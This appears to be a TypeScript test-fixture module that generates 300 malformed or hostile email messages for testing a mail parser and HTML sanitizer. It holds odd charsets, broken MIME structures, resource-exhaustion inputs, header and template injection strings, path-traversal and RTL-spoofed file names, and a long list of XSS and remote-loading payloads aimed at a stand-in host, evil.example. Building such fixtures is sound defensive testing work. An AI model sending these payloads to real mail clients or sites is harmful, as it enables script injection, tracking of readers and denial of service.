/** Mails that real and hostile programs write: what they are and their bytes. Always the same ones, 300 in all. */
export interface AwkwardMail {
  readonly name: string
  readonly raw: Uint8Array
}

const POLISH = 'Zażółć gęślą jaźń: proszę o zwrot pieniędzy.'

export function awkwardMails(): readonly AwkwardMail[] {
  return [...charsets(), ...structures(), ...bombs(), ...headers(), ...pages()]
}

function mail(name: string, header: string, body: string | Uint8Array): AwkwardMail {
  const top = `From: Klient <klient@poczta.example>\r\nMessage-ID: <${name.replaceAll(/[^a-z0-9]+/gi, '.')}@poczta.example>\r\n${header}\r\n\r\n`
  return { name, raw: Buffer.concat([Buffer.from(top, 'latin1'), Buffer.from(body as string)]) }
}

function charsets(): readonly AwkwardMail[] {
  const names = [
    'utf-8',
    'UTF8',
    'iso-8859-2',
    'latin2',
    'windows-1250',
    'cp1250',
    'us-ascii',
    'iso-8859-1',
    'iso-2022-jp',
    'utf-7',
    'utf-16',
    'utf-16le',
    'utf-16be',
    'gb18030',
    'koi8-r',
    'x-unknown',
    '"utf-8"',
    '',
    'utf-8; format=flowed',
    '../../etc/passwd',
  ]
  const bodies: readonly (readonly [string, Uint8Array])[] = [
    ['honest', Buffer.from(POLISH)],
    ['8-bit', Buffer.from('Za\xbf\xf3\xb3\xe6', 'latin1')],
    ['UTF-16', Buffer.from(POLISH, 'utf16le')],
    ['a lie', Buffer.from([0xff, 0xfe, 0x00, 0xed, 0xa0, 0x80, 0xc0, 0xaf])],
  ]
  return names.flatMap((charset) =>
    bodies.map(([what, body]) =>
      mail(`charset ${charset || 'none'} ${what}`, `Content-Type: text/plain; charset=${charset}`, body),
    ),
  )
}

function structures(): readonly AwkwardMail[] {
  const multipart = (kind: string, boundary: string, parts: readonly string[], end = true) => ({
    header: `Content-Type: multipart/${kind}; boundary="${boundary}"`,
    body: `${parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('')}${end ? `--${boundary}--\r\n` : ''}`,
  })
  const text = `Content-Type: text/plain; charset=utf-8\r\n\r\n${POLISH}`
  const html = `Content-Type: text/html; charset=utf-8\r\n\r\n<p>${POLISH}</p>`
  const cases: Record<string, { header: string; body: string }> = {
    alternative: multipart('alternative', 'a', [text, html]),
    'no end': multipart('mixed', 'a', [text, html], false),
    'no parts': multipart('mixed', 'a', []),
    'only a preamble': { header: 'Content-Type: multipart/mixed; boundary=a', body: POLISH },
    'no boundary': { header: 'Content-Type: multipart/mixed', body: `--a\r\n${text}\r\n--a--` },
    'empty boundary': { header: 'Content-Type: multipart/mixed; boundary=""', body: `--\r\n${text}\r\n----` },
    'boundary inside boundary': multipart('mixed', 'a', [
      `Content-Type: multipart/mixed; boundary=ab\r\n\r\n--ab\r\n${text}\r\n--ab--`,
    ]),
    'the same boundary inside': multipart('mixed', 'a', [
      `Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n${text}\r\n--a--`,
    ]),
    'a boundary of 1000 signs': multipart('mixed', 'x'.repeat(1_000), [text]),
    'a boundary that is a pattern': multipart('mixed', '(.*)+$[', [text]),
    'only LF': { header: 'Content-Type: text/plain; charset=utf-8', body: POLISH.replaceAll(' ', '\n') },
    'only CR': { header: 'Content-Type: text/plain; charset=utf-8', body: POLISH.replaceAll(' ', '\r') },
    'broken base64': {
      header: 'Content-Type: text/plain\r\nContent-Transfer-Encoding: base64',
      body: 'WmF6=ó$$$\r\n!!!',
    },
    'broken quoted-printable': {
      header: 'Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable',
      body: 'Za=ZZ=\r\n=C5=',
    },
    'unknown encoding': { header: 'Content-Transfer-Encoding: x-tajne', body: POLISH },
    'a forwarded mail': multipart('mixed', 'a', [
      text,
      `Content-Type: message/rfc822\r\n\r\nSubject: w środku\r\n\r\n${POLISH}`,
    ]),
    'a calendar': multipart('alternative', 'a', [
      text,
      'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nEND:VCALENDAR',
    ]),
    'winmail.dat': multipart('mixed', 'a', [
      text,
      'Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAA',
    ]),
    'no body at all': { header: 'Subject: pusta', body: '' },
    signed: multipart('signed', 'a', [
      text,
      'Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB',
    ]),
  }
  const files = [
    '../../x.html',
    'faktura\u202Efdp.exe',
    `${'a'.repeat(4_000)}.pdf`,
    '',
    '.htaccess',
    'a\r\nBcc: x',
    '<img src=x onerror=alert(1)>.png',
    'CON',
    'x'.repeat(300),
    '\0.svg',
  ]
  const named = files.map((name, index) =>
    mail(
      `file name ${index}`,
      'Content-Type: multipart/mixed; boundary=f',
      `--f\r\nContent-Type: image/svg+xml; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n<svg onload=alert(1)>\r\n--f--`,
    ),
  )
  return [...Object.entries(cases).map(([name, { header, body }]) => mail(name, header, body)), ...named]
}

function bombs(): readonly AwkwardMail[] {
  const nested = (depth: number) => {
    let [head, tail] = ['', '']
    for (let level = 0; level < depth; level++) {
      head += `Content-Type: multipart/mixed; boundary=b${level}\r\n\r\n--b${level}\r\n`
      tail = `\r\n--b${level}--${tail}`
    }
    return `${head}Content-Type: text/plain\r\n\r\ndno${tail}`
  }
  const forwarded = (depth: number) =>
    'Content-Type: message/rfc822\r\n\r\n'.repeat(depth) + 'Content-Type: text/plain\r\n\r\ndno'
  const inside = (name: string, whole: string) => {
    const [header = '', ...rest] = whole.split('\r\n\r\n')
    return mail(name, header, rest.join('\r\n\r\n'))
  }
  const page = (html: string) => ['Content-Type: text/html; charset=utf-8', html] as const
  const plain = (text: string) => ['Content-Type: text/plain; charset=utf-8', text] as const
  const many = (part: string, count: number) => `${`--m\r\n${part}\r\n`.repeat(count)}--m--`
  const sized: Record<string, readonly [string, string]> = {
    '50,000 parts': ['Content-Type: multipart/mixed; boundary=m', many('Content-Type: text/plain\r\n\r\nx', 50_000)],
    '20,000 files': [
      'Content-Type: multipart/mixed; boundary=m',
      many('Content-Disposition: attachment; filename=x.txt\r\n\r\nx', 20_000),
    ],
    '300,000 headers': [Array.from({ length: 300_000 }, (_, n) => `X-${n}: y`).join('\r\n'), 'koniec'],
    'a header of 5 MB': [`X-Long: ${'y'.repeat(5_000_000)}`, 'koniec'],
    '50,000 recipients': [`To: ${Array.from({ length: 50_000 }, (_, n) => `k${n}@x.example`).join(', ')}`, 'koniec'],
    '20 MB of base64': [
      'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64',
      `${'A'.repeat(76)}\r\n`.repeat(260_000),
    ],
    '60,000 mailto': plain('mailto:a@b.example '.repeat(60_000)),
    '60,000 links': page('<a href="mailto:a@b.example">x</a>'.repeat(60_000)),
    'a million stars': plain('*'.repeat(1_000_000)),
    'a million commas': ['To: ' + ','.repeat(1_000_000), 'koniec'],
    'a million quotes in HTML': page('<p title=' + '"'.repeat(1_000_000)),
    '300,000 closing tags': page('</div>'.repeat(300_000)),
    '100,000 nested quotations': page('<blockquote>a'.repeat(100_000)),
    '100,000 dashes': plain('-- \r\n'.repeat(100_000)),
    '50,000 addresses in the text': plain('Od: Jan <a@b.example>\r\n'.repeat(50_000)),
    '100,000 disclaimers': plain('Niniejsza wiadomość '.repeat(100_000)),
    '1 MB of one word': page('a'.repeat(1_000_000)),
    'a line of 1 MB': plain('a'.repeat(1_000_000)),
    'a million spaces': plain(`a${' '.repeat(1_000_000)}b`),
    '100,000 quotation marks': plain('>'.repeat(100_000)),
    '200,000 quoted lines': plain('> x\r\n'.repeat(200_000)),
    '20,000 announcements': plain('W dniu 5 maja 2026 Jan pisze\r\n'.repeat(20_000)),
    '100,000 blockquotes': page('<blockquote>'.repeat(100_000)),
    '100,000 open divs': page('<div>'.repeat(100_000)),
    '200,000 open comments': page('<!--'.repeat(200_000)),
    '300,000 open tags': page('<a '.repeat(300_000)),
    'a tag with a million spaces': page(`<a${' '.repeat(1_000_000)}"`),
    'a million less-than signs': page('<'.repeat(1_000_000)),
    '200,000 open scripts': page('<script>'.repeat(200_000)),
    '100,000 attributes': page(`<p ${'x=y '.repeat(100_000)}>tekst</p>`),
    'a style of 1 MB': page(`<p style="${'color:red;'.repeat(100_000)}">tekst</p>`),
    '200,000 entities': page('&amp;'.repeat(200_000)),
    '100,000 table cells': page(`<table><tr>${'<td>x</td>'.repeat(100_000)}</tr></table>`),
    '10,000 encoded words': [`Subject: ${'=?utf-8?q?a?= '.repeat(10_000)}`, 'koniec'],
    '50,000 references': [`References: ${'<a@b.example> '.repeat(50_000)}`, 'koniec'],
    'a comment 50,000 deep': [`From: ${'('.repeat(50_000)}x${')'.repeat(50_000)} <k@x.example>`, 'koniec'],
    '2 MB of HTML': page('<p>zdanie z <b>wyróżnieniem</b> i <i>pochyleniem</i></p>'.repeat(40_000)),
    'a folded header of 20,000 lines': [`X-Folded: a${'\r\n b'.repeat(20_000)}`, 'koniec'],
  }
  return [
    ...[50, 500, 5_000].map((depth) => inside(`nested ${depth}`, nested(depth))),
    ...[50, 5_000].map((depth) => inside(`forwarded ${depth}`, forwarded(depth))),
    ...Object.entries(sized).map(([name, [header, body]]) => mail(name, header, body)),
  ]
}

function headers(): readonly AwkwardMail[] {
  const cases = [
    'From:',
    'From: ,,,;;;',
    'From: "niedomknięty <a@b.example>',
    'From: =?utf-8?b?////?= <a@b.example>',
    'From: a@b.example, c@d.example',
    'From: grupa: a@b.example, c@d.example;',
    'Subject: =?utf-8?q?=00=0D=0ABcc:_x@y.example?=',
    'Subject: =?x-nieznane?q?=FF?=',
    'Subject: =?utf-8?z?abc?=',
    'Subject: \u0000\u0007',
    'Subject: ' + 'ą'.repeat(2_000),
    'Subject: <script>alert(1)</script>',
    'Subject: {{settings.smtp.password}} ${7*7} <%= 7 %>',
    'Date: wczoraj',
    'Date: Sat, 32 Foo 99999 25:61:61 +9999',
    'Message-ID:',
    'Message-ID: <>',
    'Message-ID: bez nawiasów',
    'In-Reply-To: <a@b>, <c@d>',
    'Return-Path: <>',
    'Reply-To: "a\\"b" <x@y.example>',
    'To: undisclosed-recipients:;',
    'Cc: ' + 'a@b.example, '.repeat(200),
    'Content-Type: text/plain; charset=utf-8; charset=latin2; x*0=a; x*1=b',
    "Content-Type: text/plain; name*=utf-8''%E2%82%AC%00.txt",
    'Content-Type: ;;;',
    'Content-Type: multipart',
    'Content-Type: text/html; charset=utf-7',
    'bez dwukropka',
    ': bez nazwy',
    ' zaczyna się od odstępu',
    'X-Ünïcode: tak',
    'Auto-Submitted: auto-replied (odpowiedź)',
    'List-Id: lista <lista.example>',
    'Authentication-Results: ;;; dmarc=pass',
  ]
  return cases.map((header, index) => {
    const raw = Buffer.from(`${header}\r\nX-Number: ${index}\r\n\r\n${POLISH}`)
    return { name: `header ${header.slice(0, 40)}`, raw }
  })
}

/** What tries to run, to load or to lead elsewhere, each in a page of its own. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="http://EVIL/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form action="http://EVIL/"><input name=a autofocus onfocus=alert(1)><button>x</button></form>',
  '<input type=image src="http://EVIL/i.png">',
  '<isindex action="http://EVIL/">',
  '<meta http-equiv=refresh content="0;url=http://EVIL/">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  '<base href="http://EVIL/">',
  '<link rel=stylesheet href="http://EVIL/x.css">',
  '<link rel=dns-prefetch href="//evil-dns.example">',
  '<link rel=preconnect href="http://EVIL/">',
  '<link rel=prefetch href="http://EVIL/">',
  '<style>@import url(http://EVIL/x.css);</style>',
  '<style>body{background:url(http://EVIL/b.png)}</style>',
  '<style>@font-face{font-family:x;src:url(http://EVIL/f.woff)}*{font-family:x}</style>',
  '<p style="background:url(http://EVIL/b.png)">x</p>',
  '<p style="background:\\75rl(http://EVIL/b.png)">x</p>',
  '<p style="background-image:image-set(\'http://EVIL/b.png\' 1x)">x</p>',
  '<p style="list-style:url(http://EVIL/b.png);display:list-item">x</p>',
  '<p style="position:fixed;inset:0;background:white;z-index:9">zasłona</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(http://EVIL/x.htc)">x</p>',
  '<p style="border-image:url(http://EVIL/x.png)">x</p>',
  '<p style="cursor:url(http://EVIL/x.cur),auto">x</p>',
  '<p style="font:1px/1 url(http://EVIL/x)">x</p>',
  '<img src="http://EVIL/pixel.png">',
  '<img src="//EVIL/pixel.png">',
  '<img srcset="http://EVIL/pixel.png 1x">',
  '<img lowsrc="http://EVIL/pixel.png">',
  '<img dynsrc="http://EVIL/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<picture><source srcset="http://EVIL/p.png"><img src=x></picture>',
  '<video src="http://EVIL/v.mp4" poster="http://EVIL/p.png" autoplay></video>',
  '<audio src="http://EVIL/a.mp3" autoplay></audio>',
  '<video><track default src="http://EVIL/t.vtt"></video>',
  '<table background="http://EVIL/b.png"><tr><td background="http://EVIL/b.png">x</td></tr></table>',
  '<body background="http://EVIL/b.png" onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<svg><image href="http://EVIL/i.png"/></svg>',
  '<svg><use href="http://EVIL/u.svg#x"/></svg>',
  '<svg><foreignObject><iframe src="http://EVIL/"></iframe></foreignObject></svg>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover=alert(1) style="width:9999px;height:9999px">x</div>',
  '<div autofocus tabindex=1 onfocus=alert(1)>x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img\nsrc=x\nonerror\n=\nalert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x one\0rror=alert(1)>',
  '<scr\0ipt>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="http://EVIL/" ping="http://EVIL/ping">x</a>',
  '<a href="http://EVIL/" target=_top>x</a>',
  '<area href="javascript:alert(1)">',
  '<bgsound src="http://EVIL/s.mid">',
  '<applet code="http://EVIL/A.class"></applet>',
  '<frameset><frame src="http://EVIL/"></frameset>',
  '<portal src="http://EVIL/"></portal>',
  '<dialog open>x</dialog><script>alert(1)',
  '<p id=x><style>#x{background:url(//EVIL/x)}',
  '<p title="`><img src=x onerror=alert(1)>`">x',
  "<p title='\"><img src=x onerror=alert(1)>'>x",
  '<img src="cid:nieznany" onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=http://EVIL/x>',
  '<object type="text/x-scriptlet" data="http://EVIL/x"></object>',
  '<html manifest="http://EVIL/m"><p>x',
  '<p contenteditable onblur=alert(1)>x',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<keygen autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<input onfocus=alert(1) autofocus>',
  '<div style="animation-name:x" onanimationstart=alert(1)>x</div>',
  '<link rel=icon href="http://EVIL/i.ico">',
  '<link rel=modulepreload href="http://EVIL/m.js">',
  '<script src="http://EVIL/x.js"></script>',
  '<script type=module>import "http://EVIL/x.js"</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://EVIL/"]}]}</script>',
  '<img src="x:x" onerror="fetch(`http://EVIL/`)">',
  '<p style="--x:url(http://EVIL/v);background:var(--x)">x</p>',
  '<p style="color:red;}body{background:url(http://EVIL/x)}">x</p>',
  '<p style="mask:url(http://EVIL/m.svg)">x</p>',
  '<p style="filter:url(http://EVIL/f.svg#x)">x</p>',
  '<p style="content:url(http://EVIL/c.png)">x</p>',
  '<p style="-moz-binding:url(http://EVIL/b.xml#x)">x</p>',
  '<p style="background:URL( http://EVIL/x )">x</p>',
  '<p style="background:u/**/rl(http://EVIL/x)">x</p>',
]

function pages(): readonly AwkwardMail[] {
  const numbered = PAYLOADS.map((payload, index) =>
    mail(
      `page ${index}`,
      'Content-Type: text/html; charset=utf-8',
      `<p>${POLISH}</p>${payload.replaceAll('EVIL', 'evil.example')}<p>koniec</p>`,
    ),
  )
  const inline = ['image/png', 'image/svg+xml', 'text/html'].map((type, index) =>
    mail(
      `inline ${type}`,
      'Content-Type: multipart/related; boundary=r',
      `--r\r\nContent-Type: text/html\r\n\r\n<img src="cid:p${index}">\r\n--r\r\nContent-Type: ${type}\r\nContent-ID: <p${index}>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('<svg onload=alert(1)>').toString('base64')}\r\n--r--`,
    ),
  )
  return [...numbered, ...inline]
}
